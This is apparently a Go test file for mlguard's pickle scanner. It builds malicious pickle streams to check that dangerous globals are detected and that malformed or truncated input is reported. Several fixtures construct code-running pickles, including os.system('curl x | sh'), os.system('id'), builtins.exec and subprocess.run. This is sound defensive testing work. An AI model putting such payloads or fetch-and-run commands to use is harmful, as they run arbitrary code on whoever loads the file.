package pickle

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
	"github.com/mlguard/mlguard/internal/scan/pickle/pickleop"
)

// TestMalformedStreams: a stream that cannot be decoded is a scan/incomplete
// finding that says where and why, never a silent pass or a panic.
func TestMalformedStreams(t *testing.T) {
	t.Parallel()
	runScanCases(t, []scanCase{
		{"empty stream", func() ([]byte, []got) {
			return nil, []got{incomplete(0, "offset 0: truncated: the stream ends before STOP")}
		}},
		{"no STOP", func() ([]byte, []got) {
			return p().none().bytes(), []got{incomplete(1, "offset 1: truncated: the stream ends before STOP")}
		}},
		{"STOP on an empty stack", func() ([]byte, []got) {
			return p().stop().bytes(), []got{incomplete(0, "offset 0 (STOP): stack underflow")}
		}},
		{"REDUCE on an empty stack", func() ([]byte, []got) {
			return p().reduce().stop().bytes(), []got{incomplete(0, "offset 0 (REDUCE): stack underflow")}
		}},
		{"REDUCE below a MARK", func() ([]byte, []got) {
			return p().none().mark().none().reduce().bytes(), []got{incomplete(3, "offset 3 (REDUCE): stack underflow")}
		}},
		{"TUPLE2 with one item", func() ([]byte, []got) {
			return p().proto(2).none().tuple2().stop().bytes(), []got{incomplete(3, "offset 3 (TUPLE2): stack underflow")}
		}},
		{"STACK_GLOBAL with one operand", func() ([]byte, []got) {
			return p().proto(4).str("os").stackGlobal().stop().bytes(), []got{incomplete(6, "offset 6 (STACK_GLOBAL): stack underflow")}
		}},
		{"BUILD without an object", func() ([]byte, []got) {
			return p().proto(2).emptyDict().build().stop().bytes(), []got{incomplete(3, "offset 3 (BUILD): stack underflow")}
		}},
		{"READONLY_BUFFER on an empty stack", func() ([]byte, []got) {
			return p().proto(5).readOnlyBuffer().bytes(), []got{incomplete(2, "offset 2 (READONLY_BUFFER): stack underflow")}
		}},
		{"TUPLE without MARK", func() ([]byte, []got) {
			return p().none().tuple().stop().bytes(), []got{incomplete(1, "offset 1 (TUPLE): MARK not found")}
		}},
		{"POP_MARK without MARK", func() ([]byte, []got) {
			return p().popMark().bytes(), []got{incomplete(0, "offset 0 (POP_MARK): MARK not found")}
		}},
		{"OBJ of an empty MARK", func() ([]byte, []got) {
			return p().mark().obj().bytes(), []got{incomplete(1, "offset 1 (OBJ): stack underflow")}
		}},
		{"INST without MARK", func() ([]byte, []got) {
			// The global is imported before the missing MARK is noticed.
			return p().inst("foo", "Bar").stop().bytes(), []got{
				incomplete(0, "offset 0 (INST): MARK not found"),
				unknownGlobal(0, "foo.Bar"),
			}
		}},
		{"memo key not found", func() ([]byte, []got) {
			return p().binGet(5).stop().bytes(), []got{incomplete(0, "offset 0 (BINGET): memo key 5 not found")}
		}},
		{"GET of a bad index", func() ([]byte, []got) {
			return p().opLine(pickleop.Get, "x1").stop().bytes(), []got{incomplete(0, `offset 0 (GET): invalid memo index "x1"`)}
		}},
		{"PUT beyond 32 bits", func() ([]byte, []got) {
			return p().none().opLine(pickleop.Put, "99999999999").stop().bytes(), []got{incomplete(1, "offset 1 (PUT): memo index 99999999999 out of range")}
		}},
		{"odd SETITEMS", func() ([]byte, []got) {
			return p().emptyDict().mark().none().setItems().stop().bytes(), []got{incomplete(3, "offset 3 (SETITEMS): odd number of items for SETITEMS")}
		}},
		{"odd DICT", func() ([]byte, []got) {
			return p().mark().none().dict().stop().bytes(), []got{incomplete(2, "offset 2 (DICT): odd number of items for DICT")}
		}},
		{"invalid opcode", func() ([]byte, []got) {
			return p().raw(0xff).bytes(), []got{incomplete(0, "offset 0 (0xff): invalid load key 0xff")}
		}},
		{"PROTO 6", func() ([]byte, []got) {
			return p().proto(6).none().stop().bytes(), []got{incomplete(0, "offset 0 (PROTO): unsupported pickle protocol: 6")}
		}},
		{"INT that is not a number", func() ([]byte, []got) {
			return p().intLine("abc").stop().bytes(), []got{incomplete(0, `offset 0 (INT): invalid literal for int(): "abc"`)}
		}},
		{"FLOAT that is not a number", func() ([]byte, []got) {
			return p().floatLine("one").stop().bytes(), []got{incomplete(0, `offset 0 (FLOAT): could not convert string to float: "one"`)}
		}},
		{"STRING not quoted", func() ([]byte, []got) {
			return p().stringLine("abc").stop().bytes(), []got{incomplete(0, "offset 0 (STRING): the STRING opcode argument must be quoted")}
		}},
		{"STRING with mismatched quotes", func() ([]byte, []got) {
			return p().stringLine(`'abc"`).stop().bytes(), []got{incomplete(0, "offset 0 (STRING): the STRING opcode argument must be quoted")}
		}},
		{"GLOBAL name not UTF-8", func() ([]byte, []got) {
			return p().global("os", "sys\xfftem").stop().bytes(), []got{incomplete(0, "offset 0 (GLOBAL): global name is not valid UTF-8")}
		}},
		{"BINSTRING negative length", func() ([]byte, []got) {
			return p().opU32(pickleop.BinString, 0xffffffff).stop().bytes(), []got{incomplete(0, "offset 0 (BINSTRING): BINSTRING pickle has negative byte count")}
		}},
		{"LONG4 negative length", func() ([]byte, []got) {
			return p().proto(2).opU32(pickleop.Long4, 0x80000000).stop().bytes(), []got{incomplete(2, "offset 2 (LONG4): LONG pickle has negative byte count")}
		}},
		{"BINBYTES8 length beyond int64", func() ([]byte, []got) {
			return p().proto(4).binBytes8Len(1 << 63).stop().bytes(), []got{incomplete(2, "offset 2 (BINBYTES8): negative or huge length 9223372036854775808")}
		}},
		{"truncated BINUNICODE", func() ([]byte, []got) {
			return p().binUnicodeLen(10).rawString("abc").bytes(), []got{incomplete(8, "offset 8 (BINUNICODE): truncated: the stream ends inside an opcode")}
		}},
		{"truncated GLOBAL line", func() ([]byte, []got) {
			return p().rawString("cos\nsys").bytes(), []got{incomplete(7, "offset 7 (GLOBAL): truncated: the stream ends inside an opcode")}
		}},
		{"truncated BININT", func() ([]byte, []got) {
			return p().raw(pickleop.BinInt, 1, 2).bytes(), []got{incomplete(3, "offset 3 (BININT): truncated: the stream ends inside an opcode")}
		}},
	})
}

func TestIncompleteMessage(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		b    []byte
		want string
	}{
		{p().none().bytes(), "the pickle is truncated; findings before the break are reported, the rest was not examined"},
		{p().reduce().bytes(), "the pickle could not be decoded to the end; findings before the break are reported, the rest was not examined"},
	} {
		res := scanBytes(tc.b)
		if len(res.Findings) != 1 || res.Findings[0].Message != tc.want {
			t.Errorf("Scan(%q): %+v, want one finding %q", tc.b, res.Findings, tc.want)
		}
		if res.Err == nil {
			t.Errorf("Scan(%q): Err = nil", tc.b)
		}
	}
}

// TestConcatenatedPickles: several pickles back to back are all decoded, and
// what follows the last one is trailing data.
func TestConcatenatedPickles(t *testing.T) {
	t.Parallel()
	benign := p().proto(2).mark().binUnicode("a").binInt1(1).dict().stop()
	n := int64(len(benign.b))
	runScanCases(t, []scanCase{
		{"benign then malicious", func() ([]byte, []got) {
			var r int64
			evil := p().proto(2).global("os", "system").binUnicode("id").tuple1().here(&r).reduce().stop()
			return p().then(benign).then(evil).bytes(), []got{critGlobal(n+r, "os.system('id')")}
		}},
		{"protocol 0 then protocol 4", func() ([]byte, []got) {
			var r int64
			first := p().mark().int_(1).list().stop()
			evil := p().proto(4).stackGlobalOf("builtins", "exec").str("1").tuple1().here(&r).reduce().stop()
			return p().then(first).then(evil).bytes(), []got{critGlobal(int64(len(first.b))+r, "builtins.exec('1')")}
		}},
		{"benign twice", func() ([]byte, []got) {
			return p().then(benign).then(benign).bytes(), nil
		}},
		{"trailing garbage after STOP", func() ([]byte, []got) {
			return p().then(benign).rawString("\xffgarbage").bytes(), []got{trailing(n, "")}
		}},
		{"trailing text that starts like an opcode", func() ([]byte, []got) {
			// 'g' is GET: the bytes decode a little, then fail, and reference nothing.
			return p().then(benign).rawString("garbage\n").bytes(), []got{trailing(n, fmt.Sprintf(`offset %d (GET): invalid memo index "arbage"`, n))}
		}},
		{"trailing partial pickle that references a global is incomplete", func() ([]byte, []got) {
			return p().then(benign).rawString("cos\nsystem\n").bytes(), []got{
				critGlobal(n, "os.system"),
				incomplete(n+11, fmt.Sprintf("offset %d: truncated: the stream ends before STOP", n+11)),
			}
		}},
	})
	t.Run("counts", func(t *testing.T) {
		t.Parallel()
		b := p().then(benign).then(benign).then(benign).bytes()
		res := scanBytes(b)
		if res.Pickles != 3 || res.End != int64(len(b)) {
			t.Errorf("Pickles=%d End=%d, want 3, %d", res.Pickles, res.End, len(b))
		}
	})
	t.Run("MaxPickles", func(t *testing.T) {
		t.Parallel()
		evil := p().proto(2).global("os", "system").binUnicode("id").tuple1().reduce().stop()
		b := p().then(benign).then(evil).bytes()
		res := Scan(context.Background(), bytes.NewReader(b), Options{MaxPickles: 1})
		if res.Pickles != 1 || res.End != n || len(res.Findings) != 0 {
			t.Errorf("MaxPickles 1: Pickles=%d End=%d findings=%v, want 1, %d, none", res.Pickles, res.End, summarize(res.Findings), n)
		}
		res = Scan(context.Background(), bytes.NewReader(b), Options{MaxPickles: 2})
		if res.Pickles != 2 || !hasRule(res.Findings, finding.PickleDangerousGlobal) {
			t.Errorf("MaxPickles 2: Pickles=%d findings=%v", res.Pickles, summarize(res.Findings))
		}
	})
}

// TestTruncatedEverywhere cuts malicious pickles at every byte: the findings
// made before the cut are kept, the cut is a scan/incomplete finding, and
// nothing panics.
func TestTruncatedEverywhere(t *testing.T) {
	t.Parallel()
	var g0, g4, gj int64
	streams := map[string]struct {
		b        []byte
		resolved int64 // the dangerous global is known once this many bytes are read
	}{}
	p0 := p().here(&g0).global("os", "system").mark().string_("curl x | sh").tuple().reduce().stop()
	streams["protocol 0"] = struct {
		b        []byte
		resolved int64
	}{p0.bytes(), g0 + int64(len("cos\nsystem\n"))}
	p4 := p().proto(4).frame(40).str("subprocess").memoize().str("check_output").memoize().here(&g4).stackGlobal().memoize().
		mark().str("sh").str("-c").str("id").list().tuple1().reduce().memoize().stop()
	streams["protocol 4"] = struct {
		b        []byte
		resolved int64
	}{p4.bytes(), g4 + 1}
	jb := joblibStream(t, p().proto(4).emptyDict().memoize().mark().str("w"), "f8", []int{2, 2}, true, arrayBytes(32)).
		str("evil").here(&gj).stackGlobalOf("os", "system").str("id").tuple1().reduce().setItems().stop()
	streams["joblib"] = struct {
		b        []byte
		resolved int64
	}{jb.bytes(), gj + 2 + 2 + 8 + 1}
	for name, s := range streams {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			full := scanBytes(s.b)
			if !hasRule(full.Findings, finding.PickleDangerousGlobal) || hasRule(full.Findings, finding.ScanIncomplete) {
				t.Fatalf("whole stream: %v", summarize(full.Findings))
			}
			for i := range len(s.b) {
				res := scanBytes(s.b[:i])
				if !hasRule(res.Findings, finding.ScanIncomplete) {
					t.Errorf("cut at %d: no scan/incomplete in %v", i, summarize(res.Findings))
				}
				if res.Err == nil || res.Pickles != 0 {
					t.Errorf("cut at %d: Err=%v Pickles=%d", i, res.Err, res.Pickles)
				}
				if int64(i) >= s.resolved && !hasRule(res.Findings, finding.PickleDangerousGlobal) {
					t.Errorf("cut at %d (global resolved at %d): dangerous global lost: %v", i, s.resolved, summarize(res.Findings))
				}
				if !Plausible(s.b[:i], false) && i > 3 && name != "protocol 0" {
					t.Errorf("cut at %d: head not plausible", i)
				}
			}
		})
	}
}

// TestEvidence checks how call arguments are shown: as Python source, with
// anything unprintable escaped and long values clipped.
func TestEvidence(t *testing.T) {
	t.Parallel()
	call := func(arg *pb) []byte {
		return p().proto(4).stackGlobalOf("os", "system").then(arg).tuple1().reduce().stop().bytes()
	}
	tests := []struct {
		name string
		b    []byte
		want string
	}{
		{"shell command", call(p().str("curl x | sh")), "os.system('curl x | sh')"},
		{"quote", call(p().str("it's")), `os.system('it\'s')`},
		{"backslash", call(p().str(`C:\x`)), `os.system('C:\\x')`},
		{"newline and tab", call(p().str("a\nb\tc\r")), `os.system('a\nb\tc\r')`},
		{"terminal escape", call(p().str("\x1b[31mred")), `os.system('\x1b[31mred')`},
		{"DEL and C1 controls", call(p().str("\x7f\u0085")), `os.system('\x7f\x85')`},
		{"bidi override", call(p().str("a\u202eb\u2066")), `os.system('a\u202eb\u2066')`},
		{"line separator", call(p().str("a\u2028b")), `os.system('a\u2028b')`},
		{"invalid UTF-8", call(p().binString("\xff\xfe")), `os.system('\xff\xfe')`},
		{"non-ASCII text kept", call(p().str("héllo 😀")), "os.system('héllo 😀')"},
		{"bytes", call(p().shortBinBytes("\x00ab")), `os.system(b'\x00ab')`},
		{"STRING escapes decoded then re-escaped", call(p().stringLine(`'a\nb\x00'`)), `os.system('a\nb\x00')`},
		{"list", p().proto(4).stackGlobalOf("subprocess", "run").mark().str("ls").str("-l").list().tuple1().reduce().stop().bytes(),
			"subprocess.run(['ls', '-l'])"},
		{"keywords", p().proto(4).stackGlobalOf("subprocess", "run").mark().str("id").list().
			emptyDict().str("shell").newTrue().setItem().tuple2().reduce().stop().bytes(),
			"subprocess.run(['id'], {'shell': True})"},
		{"scalars", p().proto(4).stackGlobalOf("os", "system").mark().none().newTrue().newFalse().binInt(-3).binFloat(1).tuple().reduce().stop().bytes(),
			"os.system(None, True, False, -3, <float>)"},
		{"one-tuple", call(p().binInt1(1).tuple1()), "os.system((1,))"},
		{"sets", p().proto(4).stackGlobalOf("os", "system").emptySet().mark().binInt1(1).frozenSet().tuple2().reduce().stop().bytes(),
			"os.system(set(), frozenset({1}))"},
		{"non-tuple arguments", p().proto(4).stackGlobalOf("os", "system").str("id").reduce().stop().bytes(), "os.system(*'id')"},
		{"nesting is bounded", call(p().binInt1(1).tuple1().tuple1().tuple1().tuple1().tuple1().tuple1()), "os.system(((((...),),),))"},
		{"many items", call(p().mark().binInt1(1).binInt1(2).binInt1(3).binInt1(4).binInt1(5).binInt1(6).binInt1(7).binInt1(8).binInt1(9).
			binInt1(10).binInt1(11).binInt1(12).binInt1(13).binInt1(14).binInt1(15).binInt1(16).binInt1(17).binInt1(18).list()),
			"os.system([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, ...])"},
		{"persistent id", call(p().persID("x")), "os.system(<persistent id>)"},
		{"buffer", call(p().nextBuffer()), "os.system(<buffer>)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res := scanBytes(tc.b)
			var evidence []string
			for _, f := range res.Findings {
				evidence = append(evidence, f.Evidence)
			}
			if diff := gocmp.Diff([]string{tc.want}, evidence); diff != "" {
				t.Errorf("evidence (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("long argument is clipped", func(t *testing.T) {
		t.Parallel()
		long := strings.Repeat("A", 5000)
		res := scanBytes(call(p().binUnicode(long)))
		if len(res.Findings) != 1 {
			t.Fatalf("findings %v", summarize(res.Findings))
		}
		ev := res.Findings[0].Evidence
		if !strings.HasPrefix(ev, "os.system('AAAA") || !strings.HasSuffix(ev, "…") || len(ev) > maxEvidence+len("…") {
			t.Errorf("evidence %q (%d bytes) is not clipped to %d", ev, len(ev), maxEvidence)
		}
	})
	t.Run("long global name is clipped", func(t *testing.T) {
		t.Parallel()
		name := strings.Repeat("x", 3000)
		res := scanBytes(p().global("mod", name).stop().bytes())
		if len(res.Findings) != 1 || len(res.Findings[0].Evidence) > maxEvidence+len("…") || len(res.Findings[0].Message) > 2*maxEvidence {
			t.Errorf("findings %+v", res.Findings)
		}
	})
}

func TestQuote(t *testing.T) {
	t.Parallel()
	tests := []struct {
		s     string
		trunc bool
		full  int64
		want  string
	}{
		{"", false, 0, "''"},
		{"plain", false, 5, "'plain'"},
		{"\x00\x1f", false, 2, `'\x00\x1f'`},
		{"\u200f\u202a\u2069", false, 9, `'\u200f\u202a\u2069'`},
		{"abc", true, 1000, "'abc'… (1000 bytes)"},
		{"\xc3", false, 1, `'\xc3'`},
	}
	for _, tc := range tests {
		if got := quote(tc.s, tc.trunc, tc.full); got != tc.want {
			t.Errorf("quote(%q) = %q, want %q", tc.s, got, tc.want)
		}
	}
	if got := clip("ab€", 3); got != "ab…" {
		t.Errorf("clip cuts a rune: %q", got)
	}
}
